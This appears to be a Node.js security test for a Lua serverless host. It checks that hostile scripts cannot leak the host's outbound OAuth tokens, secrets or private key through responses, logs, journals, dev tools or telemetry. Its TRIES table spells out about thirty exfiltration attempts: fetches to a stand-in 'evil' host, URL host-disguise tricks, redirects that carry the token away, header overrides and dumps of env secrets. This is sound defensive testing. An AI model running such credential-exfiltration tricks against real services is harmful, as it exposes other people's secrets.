// Scripts that are after the host's own tokens: whatever they try, neither token nor secret comes out.
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import test from 'node:test';
import { collector, exporting } from '../lib/collector.mjs';
import { deployment, lua, run, start } from '../lib/host.mjs';
import { callsOf, journalFolder, records } from '../lib/journal.mjs';
import { later } from '../lib/later.mjs';

async function listen(t, onRequest) {
  const server = http.createServer(onRequest);
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  later(t, () => { server.close(); server.closeAllConnections(); });
  return `http://127.0.0.1:${server.address().port}`;
}

// What is tried, by name: the body of a handler with `api` and `evil`, two origins, and `show`, which makes a text
// of anything with all that hangs on it.
const TRIES = {
  'print the answer': 'local r = fetch(api .. "/plain", { as = "crm" }) print(r, show(r)) log.error("r", { r = r.headers, all = show(r) }) return show(r)',
  'an API that sends it back': 'return show(fetch(api .. "/echo", { as = "crm" }))',
  'sent back, packed': 'return show(fetch(api .. "/echo-gzip", { as = "crm" }))',
  'a redirect as answer': 'return show(fetch(api .. "/away", { as = "crm", redirect = "manual" }))',
  'a redirect that is an error': 'local ok, why = pcall(fetch, api .. "/away", { as = "crm", redirect = "error" }) print(why) return show(why)',
  'a redirect to somebody else': 'local r = fetch(api .. "/away", { as = "crm" }) return show(r)',
  'there and back': 'local r = fetch(api .. "/there-and-back", { as = "crm" }) return show(r)',
  'a redirect that has it in its URL': 'local r = fetch(api .. "/in-url", { as = "crm" }) return show(r)',
  'another host': 'local ok, why = pcall(fetch, evil .. "/x", { as = "crm" }) print(why) return show(why)',
  'another host in disguise': 'local out = {} for _, u in ipairs { evil:gsub("//", "//" .. api:sub(8) .. "@"), evil .. "#" .. api, evil .. "/?" .. api, api .. ".evil.example", api:gsub("127.0.0.1", "localhost") } do local ok, why = pcall(fetch, u, { as = "crm" }) out[#out + 1] = show(why) end return show(out)',
  'a Host of its own': 'return show(fetch(api .. "/plain", { as = "crm", headers = { host = evil:sub(8) } }))',
  'through a proxy': 'local ok, r = pcall(fetch, api .. "/plain", { as = "crm", headers = { ["proxy-connection"] = "x", connection = "authorization" } }) return show(r)',
  'an Authorization of its own': 'local ok, why = pcall(fetch, api .. "/plain", { as = "crm", headers = { AUTHORIZATION = "x" } }) return show(why)',
  'tables that watch': `local seen = {}
    local spy = function(name) return setmetatable({}, { __newindex = function(_, k, v) seen[#seen + 1] = { name, k, v } end, __index = function(_, k) seen[#seen + 1] = { name, k } end }) end
    local headers = spy("headers")
    local ok, r = pcall(fetch, api .. "/plain", setmetatable({ as = "crm", headers = headers }, { __newindex = function(_, k, v) seen[#seen + 1] = { k, v } end }))
    return show({ seen, headers, r })`,
  'a hang-up': 'local ok, why = pcall(fetch, api .. "/hang-up", { as = "crm" }) print(why) log.warn(tostring(why)) return show(why)',
  'no HTTP': 'local ok, why = pcall(fetch, api .. "/nonsense", { as = "crm" }) print(why) return show(why)',
  'a head without end': 'local ok, why = pcall(fetch, api .. "/long-head", { as = "crm" }) print(why) return show(why)',
  'a field that cannot be sent': 'local ok, why = pcall(fetch, api .. "/plain", { as = "crm", headers = { ["x y"] = "1" } }) return show(why)',
  'time that runs out': 'local ok, why = pcall(fetch, api .. "/never", { as = "crm", timeout = 0.2 }) print(why) return show(why)',
  'a 401': 'return show(fetch(api .. "/refused", { as = "crm" }))',
  'again and again': 'return show(fetch(api .. "/busy", { as = "crm", retry = { times = 1, backoff = 0 } }))',
  'the names of things': 'local out = {} for _, as in ipairs { "", "CRM", "crm ", "crm\\0", "*", "outbound", "broken" } do local ok, why = pcall(fetch, api .. "/plain", { as = as }) out[#out + 1] = show(why) end return show(out)',
  'a token endpoint that talks': 'local ok, why = pcall(fetch, api .. "/plain", { as = "broken" }) print(why) return show(why)',
  'a raised answer': 'error(fetch(api .. "/echo", { as = "crm" }))',
  'a raised text': 'error(show(fetch(api .. "/echo", { as = "crm" })))',
  'what env shows': 'local out = {} for k, v in pairs(env) do out[#out + 1] = k .. "=" .. v end print(env.CRM_SECRET, env.CRM_KEY) return show(out) .. tostring(env.CRM_SECRET) .. tostring(env["CRM_SECRET"]) .. tostring(rawget)',
  'all of the globals': 'return show(_G) .. show(package) .. show(event) .. show(context)',
  'after the answer': 'after_response(function() local r = fetch(api .. "/echo", { as = "crm" }) print(show(r)) end) return "later"',
  'the coroutine that waits': 'local co = coroutine.create(function() return fetch(api .. "/echo", { as = "crm" }) end) local out = { coroutine.resume(co) } print(show(out)) return show(out)',
  'side by side': 'local a, b = parallel(function() return fetch(api .. "/echo", { as = "crm" }) end, function() return fetch(api .. "/echo", { as = "crm", method = "POST", body = "x" }) end) return show({ a, b })',
};

const SHOW = `local function show(v, seen, depth)
  seen, depth = seen or {}, depth or 0
  if type(v) ~= "table" then return tostring(v) end
  if seen[v] or depth > 6 then return "..." end
  seen[v] = true
  local out = {}
  for k, x in pairs(v) do out[#out + 1] = tostring(k) .. "=" .. show(x, seen, depth + 1) end
  local meta = getmetatable(v)
  return "{" .. table.concat(out, " ") .. (type(meta) == "table" and show(meta, seen, depth + 1) or tostring(meta)) .. "}"
end
`;

// All that is told of what was asked: the journal by every way to it, the dashboard, the tools of dev, what a replay and
// its test say. { where: text }
async function told(t, h, command, env) {
  const rows = (await records(h.dir, Object.keys(TRIES).length)).filter((one) => one.function?.startsWith('try'));
  const ask = async (at) => {
    const res = command === 'dev' ? await h.get(`/_luafn/${at}`) : await h.admin(at);
    assert.equal(res.status, 200, at);
    return res.text;
  };
  const out = { 'the list': await ask('journal?limit=500') };
  for (const { id, function: name } of rows) out[`the record of ${name}`] = await ask(`journal/${id}`);
  const cli = async (...args) => {
    const done = await run(t, args, { dir: h.dir, env });
    out[args.join(' ')] = done.stdout + done.stderr;
  };
  for (const name of command === 'serve' ? ['try1', 'try24'] : []) {
    const { id } = rows.find((one) => one.function === name);
    for (const args of [['journal', id], ['replay', id, '--json'], ['replay', id, '--test']]) await cli(...args);
  }
  if (command === 'serve') for (const args of [['journal', '--json'], ['test']]) await cli(...args);
  for (const name of fs.readdirSync(path.join(h.dir, 'scripts'))) {
    if (name.endsWith('_test.lua')) out[name] = fs.readFileSync(path.join(h.dir, 'scripts', name), 'utf8');
  }
  assert.ok(rows.some((one) => one.calls && callsOf(one).some(([call, args]) => call === 'fetch' && JSON.stringify(args).includes('"crm"'))), 'in whose name a call was made is there');
  if (command !== 'dev') return out;
  const token = fs.readFileSync(path.join(h.dir, '.luafn/dev-mcp-token'), 'utf8');
  const call = async (name, args) => {
    const res = await h.request({
      method: 'POST', path: '/_luafn/dev/mcp', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } }),
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` },
    });
    assert.equal(res.status, 200, name);
    out[`the tool ${name} ${JSON.stringify(args)}`] = res.text;
  };
  for (const name of ['faults', 'requests', 'routes', 'generations', 'test']) await call(name, {});
  for (const { id } of rows) await call('request', { id });
  for (const name of ['try0', 'try1', 'try23', 'try24']) await call('invoke', { function: name });
  return out;
}

test('no script comes by a token or a secret', async (t) => {
  const secret = `client-secret-${crypto.randomBytes(9).toString('hex')}`;
  const pem = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' });
  const tokens = [], seen = [], evilSeen = [];
  const tokenUrl = await listen(t, (req, res) => {
    if (req.url === '/broken') { res.writeHead(400); res.end(`{"error":"${secret}","error_description":"${secret} ${req.headers.authorization}"}`); return; }
    tokens.push(`token-${crypto.randomBytes(12).toString('hex')}`);
    res.end(JSON.stringify({ access_token: tokens.at(-1), token_type: 'Bearer', expires_in: 600 }));
  });
  const evil = await listen(t, (req, res) => {
    evilSeen.push(JSON.stringify([req.url, req.rawHeaders]));
    if (req.url.startsWith('/back')) { res.writeHead(302, { Location: `${api}/plain` }); res.end(); return; }
    res.end(JSON.stringify(req.rawHeaders));
  });
  const zlib = await import('node:zlib');
  const answers = {
    '/echo': (req, res) => { res.writeHead(200, { 'X-Echo': req.headers.authorization ?? '', 'X-Token': (req.headers.authorization ?? '').slice(7) }); res.end(JSON.stringify(req.rawHeaders)); },
    '/echo-gzip': (req, res) => { res.writeHead(200, { 'Content-Encoding': 'gzip' }); res.end(zlib.gzipSync(`${'x'.repeat(70000)}${JSON.stringify(req.rawHeaders)}`)); },
    '/away': (req, res) => { res.writeHead(307, { Location: `${evil}/got` }); res.end(); },
    '/there-and-back': (req, res) => { res.writeHead(302, { Location: `${evil}/back` }); res.end(); },
    '/in-url': (req, res) => { res.writeHead(302, { Location: `/plain?t=${(req.headers.authorization ?? '').slice(7)}` }); res.end(); },
    '/hang-up': (req) => req.socket.destroy(),
    '/nonsense': (req) => req.socket.end(`${req.headers.authorization}\r\n\r\n`),
    '/long-head': (req, res) => { res.writeHead(200, { 'X-Long': `${req.headers.authorization} `.repeat(3000) }); res.end(); },
    '/never': () => {},
    '/refused': (req, res) => { res.writeHead(401, { 'WWW-Authenticate': `Bearer error="${req.headers.authorization}"` }); res.end(req.headers.authorization); },
    '/busy': (req, res) => { res.writeHead(503, { 'Retry-After': '0' }); res.end(req.headers.authorization); },
  };
  const api = await listen(t, (req, res) => {
    seen.push((req.headers.authorization ?? '').replace(/^Bearer /, ''));
    (answers[req.url] ?? ((_, r) => r.end('plain')))(req, res);
  });
  const identity = (path, credentials) => `{ hosts = { ${lua(api.slice(7))} }, token_url = "${tokenUrl}${path}", client_id = "host", ${credentials} }`;
  const scripts = {};
  for (const [i, text] of Object.values(TRIES).entries()) scripts[`try${i}`] = `${SHOW}local api, evil = ${lua(api)}, ${lua(evil)}\nreturn function(event, context)\n  ${text}\nend`;
  const files = deployment(scripts, {
    fields: Object.fromEntries(Object.keys(scripts).map((name) => [name, 'auth = "public", timeout = 60, fetch = { "127.0.0.1" }, env = { "*", "CRM_SECRET" }'])),
    more: `  outbound = { crm = ${identity('/token', 'client_secret = env.CRM_SECRET')}, key = ${identity('/key', 'private_key = env.CRM_KEY')},
      broken = ${identity('/broken', 'client_secret = env.CRM_SECRET')} },
  journal = { errors = true, sample = 1 },`,
    files: { '.env': `CRM_SECRET="${secret}"\nPLAIN=plain-value\n` },
  });
  const collected = await collector(t);
  const env = { CRM_KEY: pem, ...exporting(collected) };
  const basic = Buffer.from(`host:${secret}`).toString('base64');
  const leaks = (where, text) => {
    for (const word of [secret, basic, pem.split('\n')[1], ...tokens]) assert.ok(!text.includes(word), `${where}: ${word} in ${text.slice(0, 2000)}`);
  };
  let shown = 0;
  for (const command of ['serve', 'dev']) {
    const h = await start(t, { command, files, env });
    for (const [i, name] of Object.keys(TRIES).entries()) {
      const res = await h.call(`try${i}`, { headers: { Accept: i % 2 ? 'text/html' : '*/*' } });
      leaks(`${command}, ${name}`, JSON.stringify([res.status, res.headers, res.text]));
      shown += res.text.includes('plain-value');
    }
    for (const page of ['metrics', 'ready']) leaks(page, (command === 'dev' ? await h.get(`/_luafn/${page}`) : await h.admin(page)).text);
    for (const [where, text] of Object.entries(await told(t, h, command, env))) leaks(`${command}, ${where}`, text);
    assert.ok(fs.existsSync(journalFolder(h.dir)));
    await h.stop();
    leaks(`${command}, its log`, h.stdout + h.stderr);
    for (const name of fs.readdirSync(path.join(h.dir, '.luafn'), { recursive: true })) {
      const file = path.join(h.dir, '.luafn', name);
      if (fs.statSync(file).isFile()) leaks(`${command}, .luafn/${name}`, fs.readFileSync(file, 'latin1'));
    }
    assert.match(h.stdout + h.stderr, /outbound 'broken': the token endpoint answers with status 400|refuses/);
  }
  assert.equal(shown, 2, 'other variables are there');
  for (const i of [0, 1, 22, 24, 25]) {
    const { stdout, stderr } = await run(t, ['invoke', `try${i}`], { files, env });
    leaks(`invoke ${i}`, stdout + stderr);
  }
  for (const args of [['check'], ['routes'], ['routes', '--json']]) {
    const { stdout, stderr } = await run(t, args, { files, env });
    leaks(args.join(' '), stdout + stderr);
  }
  leaks('somebody else', evilSeen.join());
  await collected.until((c) => c.spans().length > 60 && c.logs().length > 10 && c.metrics().length > 0);
  assert.ok(collected.spans().some((span) => JSON.stringify(span).includes('/echo')), 'calls are among the spans');
  leaks('the collector', JSON.stringify(collected.requests.map((one) => [one.headers, one.raw.toString('latin1'), one.message])));
  assert.ok(evilSeen.length >= 4, 'who was redirected to');
  assert.ok(tokens.length >= 4 && seen.filter((token) => tokens.includes(token)).length > 40, 'the API was sent them');
});
